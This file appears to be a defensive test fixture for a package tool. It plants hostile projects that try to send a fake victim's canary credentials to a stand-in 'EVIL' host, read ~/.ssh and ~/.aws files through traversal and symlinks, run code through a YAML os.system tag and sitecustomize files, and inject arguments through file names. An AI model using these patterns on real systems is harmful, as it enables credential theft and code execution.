"""Projects as somebody may plant them below a folder that a glob looks into, and the home of the user who is to suffer.

Each plant is a manifest with what belongs to it. `EVIL` stands for a server that notes what it is sent, `BARE` for its
host and port alone, `NAMED` and `PIP` for a server and an index of the victim's team, which have logins of their own,
`STORE` with
`BUCKET` for a store that takes whatever it is given, `HOME` for the victim's home.
"""

import json
import os
import shutil
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import NamedTuple

import pytest

from tests.kit.canaries import CANARY, hold
from tests.kit.packages import module
from tests.kit.world import World

ROW, ARGS = "x.tar.gz", "conf/args.yml"
PULL, PACKAGE = "tool.micropkgd.pull", "tool.micropkgd.package"
LOGIN = f"login-{CANARY}"  # part of every login of the victim
VARIABLE = f"variable-{CANARY}"  # the value of every variable that is nobody's login


class Plant(NamedTuple):
    """One project."""

    name: str
    rows: str  # of the table
    home: str = PULL
    args: object = None  # of conf/args.yml
    policy: str = ""
    files: Mapping[str, str] = {}
    links: Mapping[str, str] = {}
    raw_args: str = ""

    def make(self, folder: Path, places: Mapping[str, str]) -> World:
        """Write it below a folder."""
        world = World(folder / self.name)
        module(world, {"nodes.py": "PRIVATE = 1\n"})
        for path, text in self.files.items():
            world.write(path, _filled(text, places))
        for path, target in self.links.items():
            (world.root / path).parent.mkdir(parents=True, exist_ok=True)
            (world.root / path).symlink_to(_filled(target, places))
        if self.args is not None or self.raw_args:
            world.write(ARGS, _filled(self.raw_args or json.dumps(self.args), places))
        world.manifest(_filled(self.rows, places), _filled(self.policy, places), self.home)
        return world


def _filled(text: str, places: Mapping[str, str]) -> str:
    for name, place in places.items():
        text = text.replace(name, place)
    return text


def pull(name: str, ref: str, args: object = None, more: str = "", **rest: object) -> Plant:
    """A project that pulls from somewhere."""
    options = ", ".join(part for part in (f'fs-args = "{ARGS}"' if args is not None else "", more) if part)
    return Plant(name, f'"{ref}" = {{{options}}}', PULL, args, **rest)  # type: ignore[arg-type]


def push(name: str, target: str, args: object = None, more: str = "overwrite = true", **rest: object) -> Plant:
    """A project that publishes somewhere."""
    options = ", ".join(
        part for part in (f'publish = "{target}"', f'fs-args = "{ARGS}"' if args is not None else "", more) if part
    )
    return Plant(name, f'"pipelines.ds" = {{{options}}}', PACKAGE, args, **rest)  # type: ignore[arg-type]


S3_WAYS: Mapping[str, Mapping[str, object]] = {
    "endpoint": {"endpoint_url": "EVIL"},
    "client": {"client_kwargs": {"endpoint_url": "EVIL"}},
    "both": {"endpoint_url": "https://s3.amazonaws.com", "client_kwargs": {"endpoint_url": "EVIL"}},
    "profile": {"endpoint_url": "EVIL", "profile": "team"},
    "half-a-login": {"endpoint_url": "EVIL", "key": "k"},
    "other-half": {"endpoint_url": "EVIL", "secret": "s"},
    "empty-login": {"endpoint_url": "EVIL", "key": "", "secret": ""},
    "session": {"endpoint_url": "EVIL", "token": "t"},
    "anon-no": {"endpoint_url": "EVIL", "anon": False},
    "proxy": {"config_kwargs": {"proxies": {"https": "EVIL"}}},
    "proxy-http": {"use_ssl": False, "config_kwargs": {"proxies": {"http": "EVIL"}}},
    "proxy-bare": {"config_kwargs": {"proxies": {"https": "BARE", "http": "BARE"}}},
    "proxy-forwards": {
        "config_kwargs": {"proxies": {"https": "EVIL"}, "proxies_config": {"proxy_use_forwarding_for_https": True}}
    },
    "region": {"endpoint_url": "EVIL", "client_kwargs": {"region_name": "eu-west-1"}},
    "agent": {"endpoint_url": "EVIL", "config_kwargs": {"user_agent_extra": "x"}},
    "lookalike": {"endpoint_url": "http://s3.amazonaws.com@BARE"},
}
GCS_WAYS: Mapping[str, Mapping[str, object]] = {
    "endpoint": {"endpoint_url": "EVIL"},
    "null": {"endpoint_url": "EVIL", "token": None},
    "default": {"endpoint_url": "EVIL", "token": "google_default"},
    "cloud": {"endpoint_url": "EVIL", "token": "cloud"},
    "file": {"endpoint_url": "EVIL", "token": "HOME/.config/gcloud/application_default_credentials.json"},
    "linked-file": {"endpoint_url": "EVIL", "token": "HOME/src/gs-linked-file/account.json"},
    "pays": {"endpoint_url": "EVIL", "requester_pays": "team"},
}
HTTP_WAYS: Mapping[str, Mapping[str, object]] = {
    "plain": {},
    "proxy": {"proxy": "EVIL"},
    "proxy-client": {"client_kwargs": {"proxy": "EVIL"}},
    "trust-env": {"trust_env": True},
}
VARIABLE_WAYS: Mapping[str, Mapping[str, object]] = {
    "header": {"headers": {"X-Stolen": "${VICTIM_SECRET}"}},
    "client-header": {"client_kwargs": {"headers": {"X-Stolen": "${oc.env:VICTIM_SECRET}"}}},
    "default": {"headers": {"X-Stolen": "${oc.env:VICTIM_SECRET,none}"}},
    "bearer": {"headers": {"Authorization": "Bearer ${VICTIM_SECRET}"}},
    "login": {"auth": ["u", "${VICTIM_SECRET}"]},
    "aws": {"headers": {"X-Stolen": "${AWS_SECRET_ACCESS_KEY}"}},
    "nested": {"client_kwargs": {"headers": {"X-Stolen": "a ${VICTIM_SECRET} b"}}},
}


def readers() -> Iterator[Plant]:
    """Pull from the evil server in every way, with the victim's logins at hand."""
    for name, args in S3_WAYS.items():
        yield pull(f"s3-{name}", "s3://team/x.tar.gz", args)
        yield push(f"s3-push-{name}", "s3://team/pkgs/", args)
    for name, args in GCS_WAYS.items():
        links = {"account.json": "HOME/.config/gcloud/application_default_credentials.json"} if "link" in name else {}
        yield pull(f"gs-{name}", "gs://team/x.tar.gz", args, links=links)
        yield push(f"gs-push-{name}", "gs://team/pkgs/", args)
    for name, args in HTTP_WAYS.items():
        for host, address in (("ip", "EVIL"), ("netrc", "NAMED"), ("proxied", "http://localhost:9")):
            yield pull(f"http-{name}-{host}", f"{address}/x.tar.gz", args)
    for name, args in VARIABLE_WAYS.items():
        yield pull(f"variable-{name}", "EVIL/x.tar.gz", args)
    for number in (301, 303, 307, 308):
        yield pull(f"redirect-{number}", f"EVIL/to-netrc-{number}")
    yield pull("redirect", "EVIL/to-netrc")
    yield pull("redirect-index", "EVIL/to-pip")
    yield pull("redirect-twice", "EVIL/to-redirect")
    yield pull("redirect-metadata", "EVIL/to-metadata")
    yield Plant("mirror", f'"EVIL/{ROW}" = {{sha256 = "{"0" * 64}"}}', policy='mirrors = ["NAMED/{sha256}.tar.gz"]')
    for name, host in (("ip", "EVIL"), ("netrc", "NAMED"), ("pip", "PIP")):
        yield Plant(f"index-{name}", f'"ds>=1" = {{index = "{host}/simple/"}}')
        yield push(f"index-push-{name}", f"{host}/simple/")
        yield Plant(f"index-policy-{name}", '"ds" = {}', policy=f'index-url = "{host}/simple/"')
    yield Plant(
        "index-bucket", f'"ds>=1" = {{index = "s3://team/", fs-args = "{ARGS}"}}', args={"endpoint_url": "EVIL"}
    )
    yield Plant(
        "index-bucket-gs", f'"ds>=1" = {{index = "gs://team/", fs-args = "{ARGS}"}}', args={"endpoint_url": "EVIL"}
    )
    yield Plant(
        "index-proxy", f'"ds>=1" = {{index = "http://localhost:9/simple/", fs-args = "{ARGS}"}}', args={"proxy": "EVIL"}
    )
    others = {
        "hf": {"endpoint": "EVIL"},
        "abfs": {"account_name": "a", "account_host": "BARE"},
        "lakefs": {"host": "EVIL"},
    }
    for scheme, options in others.items():
        policy = f'protocols = ["{scheme}"]'
        yield pull(f"other-{scheme}", f"{scheme}://team/x.tar.gz", options, policy=policy)


def takers() -> Iterator[Plant]:
    """Reach for files of the victim, or for folders of theirs."""
    for name, ref in (
        ("ssh", "HOME/.ssh/id_rsa"),
        ("relative", "../../.ssh/id_rsa"),
        ("uri", "file://HOME/.ssh/id_rsa"),
        ("tar", "HOME/private.tar.gz"),
    ):
        yield pull(f"path-{name}", ref)
    yield pull("path-linked", "dist/x.tar.gz", links={"dist": "HOME/private"})
    for name, path in (("up", "../../.aws/credentials"), ("absolute", "HOME/.aws/credentials")):
        yield Plant(f"args-{name}", f'"EVIL/{ROW}" = {{fs-args = "{path}"}}')
    yield Plant("args-linked", f'"EVIL/{ROW}" = {{fs-args = "{ARGS}"}}', links={ARGS: "HOME/.aws/credentials"})
    yield Plant("args-linked-folder", f'"EVIL/{ROW}" = {{fs-args = "aws/credentials"}}', links={"aws": "HOME/.aws"})
    for name, text in (
        ("tag", "headers: !!python/object/apply:os.system ['touch HOME/run']\n"),
        ("aliases", "a: &a [1]\nb: &b [*a, *a]\n"),
        ("resolver", "headers: {X: '${file:HOME/.ssh/id_rsa}'}\n"),
        ("code", "headers: {X: '${oc.decode:${VICTIM_SECRET}}'}\n"),
    ):
        yield Plant(f"yaml-{name}", f'"EVIL/{ROW}" = {{fs-args = "{ARGS}"}}', raw_args=text)
    for name, target in (
        ("downloads", "HOME/Downloads/"),
        ("relative", "../../Downloads/"),
        ("uri", "file://HOME/Downloads/"),
        ("share", "HOME/share/"),
    ):
        yield push(f"folder-{name}", target)
        yield push(f"folder-{name}-kindly", target, more="")
    yield push("folder-linked", "out/", links={"out": "HOME/Downloads"})
    yield push("folder-linked-deep", "a/b/", links={"a": "HOME/nested"})
    yield Plant("destination-up", '"pipelines.ds" = {destination = "../../Downloads"}', PACKAGE)
    yield Plant("destination-absolute", '"pipelines.ds" = {destination = "HOME/Downloads"}', PACKAGE)
    yield Plant(
        "destination-linked", '"pipelines.ds" = {destination = "out"}', PACKAGE, links={"out": "HOME/Downloads"}
    )
    yield Plant("env-up", '"pipelines.ds" = {env = "../../../.aws"}', PACKAGE)
    yield Plant("module-linked", '"pipelines.ssh" = {}', PACKAGE, links={"src/shop/pipelines/ssh": "HOME/.ssh"})


def senders() -> Iterator[Plant]:
    """Send a private package away, with a login of their own or none."""
    yield push("sent-gs", "gs://BUCKET/pkgs/", {"endpoint_url": "STORE", "token": "anon"})
    yield push("sent-gs-own", "gs://BUCKET/pkgs/", {"endpoint_url": "STORE", "token": "own"})
    yield push("sent-s3", "s3://stolen/pkgs/", {"endpoint_url": "EVIL", "anon": True})
    yield push("sent-s3-own", "s3://stolen/pkgs/", {"endpoint_url": "EVIL", "key": "k", "secret": "s"})
    yield push("sent-index", "EVIL/simple/", {"auth": ["u", "p"]})


def misleaders() -> Iterator[Plant]:
    """Lead passes astray by what stands beside the manifest: settings, ignore files, links, sizes, names, programs."""
    code = "src/shop/pipelines/ds"
    packed = '"pipelines.ds" = {}'
    settings = {
        "conf-up": 'CONF_SOURCE = "../../.aws"\n',
        "conf-absolute": 'CONF_SOURCE = "HOME/.aws"\n',
        "conf-run": 'import os\nos.system("touch HOME/run")\nCONF_SOURCE = "conf"\n',
        "conf-computed": 'CONF_SOURCE = str(__import__("os").environ["VICTIM_SECRET"])\n',
        "env-up": 'CONFIG_LOADER_ARGS = {"base_env": "../../../.aws"}\n',
        "deep": "CONF_SOURCE = " + "(" * 3000 + '"conf"' + ")" * 3000 + "\n",
    }
    for name, text in settings.items():
        yield Plant(f"settings-{name}", packed, PACKAGE, files={"src/shop/settings.py": text})
    ignores = {
        "stars": "*a" * 300 + "b\n",
        "classes": "[a-z]" * 2000 + "\n",
        "all-but": "*\n!../../.ssh/id_rsa\n!HOME/.ssh/id_rsa\n",
        "long": "x" * 300_000 + "\n",
        "many": "a*b\n" * 20_000,
    }
    for name, text in ignores.items():
        yield Plant(f"ignore-{name}", packed, PACKAGE, files={f"{code}/.gitignore": text})
    linked = {
        "file": (f"{code}/key.py", "HOME/.ssh/id_rsa"),
        "folder": (f"{code}/inner", "HOME/.ssh"),
        "tests": ("tests/pipelines/ds/aws", "HOME/.aws"),
        "conf": ("conf/base/parameters_ds.yml", "HOME/.aws/credentials"),
        "requirements": (f"{code}/requirements.txt", "HOME/.netrc"),
        "ignore": (f"{code}/.gitignore", "HOME/.netrc"),
        "lock": ("micropkg.lock", "HOME/Downloads/ds-1.0.tar.gz"),
        "settings": ("src/shop/settings.py", "HOME/.ssh/__init__.py"),
        "state": (".micropkgd", "HOME/nested"),
        "circle": (f"{code}/again", "."),
        "device": (f"{code}/zero.py", "/dev/zero"),
    }
    for name, (path, target) in linked.items():
        yield Plant(f"linked-{name}", packed, PACKAGE, links={path: target})
    named = {
        "escape": f"{code}/\x1b]0;HOME\x07.py",
        "reversed": f"{code}/\u202eyp.edon.py",
        "newline": f"{code}/a\nb.py",
        "dash": f"{code}/--rsh=touch.py",
    }
    for name, path in named.items():
        yield Plant(f"named-{name}", packed, PACKAGE, files={path: "x = 1\n"})
    programs = dict.fromkeys(("compileall.py", "sitecustomize.py", "yaml.py", "packaging/__init__.py"), "")
    run = "import pathlib\npathlib.Path('HOME/run').touch()\n"
    yield Plant("programs", packed, PACKAGE, files=dict.fromkeys(programs, run))
    yield Plant("programs-pulled", f'"{ROW}" = {{}}', files={"setup.py": run, "conftest.py": run})
    yield Plant("large", packed, PACKAGE, files={f"{code}/data.py": "x = 1\n" * 20_000})
    yield Plant("wide", packed, PACKAGE, files={f"{code}/m{number}.py": "" for number in range(400)})
    yield Plant("deep", packed, PACKAGE, files={f"{code}/{'d/' * 90}m.py": ""})


def plants() -> list[Plant]:
    """All of them."""
    return [*readers(), *takers(), *senders(), *misleaders()]


class Victim:
    """A home with logins, files and folders that nobody but its owner is to touch."""

    def __init__(self, home: Path) -> None:
        self.home = home
        for folder in (".ssh", ".aws", ".config/gcloud", "Downloads", "share", "private", "nested/b", "src"):
            (home / folder).mkdir(parents=True)
        hold(home / ".ssh/id_rsa", f"-----BEGIN {LOGIN}-----\n")
        hold(home / ".ssh/__init__.py", f"KEY = '{LOGIN}'\n")
        keys = f"aws_access_key_id = AKIA{LOGIN}\naws_secret_access_key = {LOGIN}\n"
        hold(home / ".aws/credentials", f"[default]\n{keys}[team]\n{keys}")
        user = {"type": "authorized_user", "client_id": "i", "client_secret": LOGIN, "refresh_token": LOGIN}
        hold(home / ".config/gcloud/application_default_credentials.json", json.dumps(user))
        for folder in ("Downloads", "share", "nested/b", "private"):
            (home / folder / "ds-1.0.tar.gz").write_bytes(b"what the victim had saved")
        shutil.copy(home / "private/ds-1.0.tar.gz", home / "private.tar.gz")
        shutil.copy(home / "private/ds-1.0.tar.gz", home / "private/x.tar.gz")
        hold(home / ".netrc", f"machine localhost login u password {LOGIN}\ndefault login u password {LOGIN}\n")

    def environ(self, pip: str) -> dict[str, str]:
        """What this user's shell says; `pip` is the index of their own, with a password in it."""
        return {
            "HOME": str(self.home),
            "XDG_STATE_HOME": str(self.home / ".local/state"),
            "XDG_CONFIG_HOME": str(self.home / ".config"),
            "AWS_EC2_METADATA_DISABLED": "true",
            "AWS_SESSION_TOKEN": LOGIN,
            "NO_GCE_CHECK": "true",
            "VICTIM_SECRET": VARIABLE,
            "PIP_INDEX_URL": pip.replace("://", f"://u:{LOGIN}@"),
            "NETRC": str(self.home / ".netrc"),
        }

    def wear(self, monkeypatch: pytest.MonkeyPatch, pip: str) -> None:
        """Let commands of this process run as this user."""
        for name in [name for name in os.environ if name.startswith(("AWS_", "FSSPEC_", "GOOGLE_"))]:
            monkeypatch.delenv(name)
        monkeypatch.delenv("UV_INDEX_URL", raising=False)
        for name, value in self.environ(pip).items():
            monkeypatch.setenv(name, value)

    def files(self) -> dict[str, bytes]:
        """All that is the victim's own, with its bytes."""
        own = ("src", ".local", ".cache")
        return {
            str(path.relative_to(self.home)): path.read_bytes()
            for path in sorted(self.home.rglob("*"))
            if path.is_file() and path.relative_to(self.home).parts[0] not in own
        }
